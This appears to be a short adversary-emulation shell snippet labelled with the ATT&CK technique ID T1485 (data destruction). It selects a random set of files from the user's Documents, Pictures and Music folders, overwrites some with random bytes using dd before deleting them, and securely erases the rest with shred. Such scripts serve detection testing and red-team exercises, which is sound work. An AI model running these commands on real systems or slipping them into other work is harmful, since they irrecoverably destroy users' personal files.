# T1485 by shred and dd.
groundwork
rnd 20 50; files_in "$r" '*.*' Documents Pictures Music
echo "$found" | head -n 3 | while read -r f; do dd if=/dev/urandom of="$f" bs=4096 count=2 conv=notrunc 2>/dev/null; rm "$f"; done
echo "$found" | tail -n +4 | tr '\n' '\0' | xargs -0 shred -n 1 -u
